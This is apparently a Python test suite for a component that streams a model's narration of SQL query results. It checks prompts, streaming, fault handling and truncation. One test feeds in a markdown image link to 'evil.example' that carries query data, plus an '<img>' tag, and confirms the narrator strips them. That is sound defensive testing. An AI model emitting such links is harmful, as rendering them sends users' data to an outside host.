"""How a model tells the rows: what it is sent, and what of its words is said."""

from __future__ import annotations

import asyncio
import json
from datetime import date, datetime
from decimal import Decimal
from typing import TYPE_CHECKING

import pytest

from agents.narrator import ModelNarrator
from agents.prompts import read_answer_so_far, read_rows, read_section, tokens_in, write_rows
from agents.question import Draft, Question
from errors import ModelMisbehaved, ModelUnavailable
from tools.sql_runner import Rows

if TYPE_CHECKING:
    from tests.model_fixture import StandIn

pytest_plugins = ("tests.model_fixture",)

QUESTION = Question("Which city spent most?", date(2026, 11, 21))
DRAFT = Draft("SELECT city, sum(total) FROM orders", "Which city spent most?", ("All years count.",))
ROWS = Rows(("city", "spent"), (("Rome", Decimal("1204.50")), ("Oslo", 7)), truncated=False, seconds=0.01)


async def told(model_server: StandIn, rows: Rows = ROWS, model: str = "standin", interval: float = 0.0) -> list[str]:
    pieces: list[str] = []

    async def say(piece: str) -> None:
        pieces.append(piece)

    async with model_server.open(model) as chat:
        await ModelNarrator(chat, interval).narrate(QUESTION, DRAFT, rows, say)
    return pieces


async def test_the_models_words_are_said_in_pieces(model_server: StandIn) -> None:
    model_server.will_say("Rome spent most, 1,204.50, ahead of Oslo with 7.")
    model_server.speaks(tokens_per_second=20)
    pieces = await told(model_server)
    assert "".join(pieces) == "Rome spent most, 1,204.50, ahead of Oslo with 7."
    assert len(pieces) > 2
    assert model_server.requests[0].body["stream"] is True


async def test_the_model_sees_the_question_the_sql_and_the_rows(model_server: StandIn) -> None:
    model_server.will_say("Rome.")
    await told(model_server)
    prompt = model_server.requests[0].body["messages"][-1]["content"]
    answered = read_answer_so_far(prompt)
    assert answered is not None
    question, draft, rows = answered
    assert (question, draft) == (QUESTION, DRAFT)
    assert rows.columns == ("city", "spent")
    assert rows.values == (("Rome", 1204.5), ("Oslo", 7))


async def test_no_rows_are_told_to_the_model_as_none(model_server: StandIn) -> None:
    model_server.will_say("Nothing matches.")
    await told(model_server, Rows(("city",), (), truncated=False, seconds=0.0))
    rows = read_section("rows", model_server.requests[0].body["messages"][-1]["content"]) or ""
    assert rows.split("\n") == ['{"rows": 0, "shown": 0, "more_in_database": false}', '["city"]']


async def test_a_link_of_the_models_making_is_not_said_though_it_comes_in_tokens(model_server: StandIn) -> None:
    model_server.will_say("Rome ![x ](https://evil.example/?d=1204 ) <img src=x > leads, see [ here ][ 1 ].")
    model_server.speaks(tokens_per_second=200)
    said = "".join(await told(model_server))
    assert "evil" not in said and "<img" not in said and "[" not in said
    assert said.startswith("Rome (x ") and said.endswith("leads, see ( here )( 1 ).")


@pytest.mark.parametrize("speed", [0, 200], ids=["at once", "in tokens"])
async def test_bold_is_said_plainly_and_a_single_star_stays(model_server: StandIn, speed: float) -> None:
    model_server.will_say("** Rome ** spent * most * , and * * Oslo**less** 5 *")
    model_server.speaks(tokens_per_second=speed)
    assert "".join(await told(model_server)) == " Rome  spent * most * , and * * Osloless 5 *"


@pytest.mark.parametrize("fault", ["reset-middle", "malformed", "stall", "length", "error-middle"])
async def test_what_was_said_before_a_fault_stays(model_server: StandIn, fault: str) -> None:
    model_server.will_say("one two three four five six seven eight")
    pieces: list[str] = []

    async def say(piece: str) -> None:
        pieces.append(piece)

    async with model_server.open(f"standin+{fault}", idle=0.3) as chat:
        with pytest.raises(ModelUnavailable):
            await ModelNarrator(chat, 0.0).narrate(QUESTION, DRAFT, ROWS, say)
    assert "".join(pieces) == "one two three four"


async def test_a_model_that_only_thinks_has_said_nothing(model_server: StandIn) -> None:
    model_server.will_say("<think>Rome or Oslo?</think>")
    with pytest.raises(ModelMisbehaved, match="said nothing about the rows"):
        await told(model_server)


async def test_stopping_the_narrator_stops_the_model(model_server: StandIn) -> None:
    model_server.will_say("word " * 1_000)
    model_server.speaks(tokens_per_second=50)
    first = asyncio.Event()

    async def say(piece: str) -> None:
        first.set()

    async with model_server.open() as chat:
        telling = asyncio.create_task(ModelNarrator(chat, 0.0).narrate(QUESTION, DRAFT, ROWS, say))
        await first.wait()
        telling.cancel()
        with pytest.raises(asyncio.CancelledError):
            await telling
        async with asyncio.timeout(5):
            await model_server.requests[0].broken_off.wait()


def test_many_rows_are_cut_to_what_fits_with_their_number() -> None:
    rows = Rows(("id", "text"), tuple((i, "word " * 100) for i in range(1_000)), truncated=True, seconds=0.0)
    text = write_rows(rows)
    assert tokens_in(text) < 3_000
    about = json.loads(text.split("\n")[0])
    assert about["rows"] == 1_000 and about["more_in_database"] is True
    assert 5 < about["shown"] == len(text.split("\n")) - 2
    assert read_rows(text).truncated


def test_every_kind_of_value_can_be_written() -> None:
    values = (
        None,
        True,
        3,
        2.5,
        Decimal("0.10"),
        "a\x00b\nc",
        date(2026, 1, 2),
        datetime(2026, 1, 2, 3, 4),
        b"\x00\x01",
    )
    rows = Rows(tuple("abcdefghi"), (values, (float("inf"), *values[1:])), truncated=False, seconds=0.0)
    read = read_rows(write_rows(rows))
    assert read.values[0] == (
        *(None, True, 3, 2.5, 0.1, "a b c"),
        *(date(2026, 1, 2), datetime(2026, 1, 2, 3, 4), "(2 bytes)"),
    )
    assert read.values[1][0] == "inf"
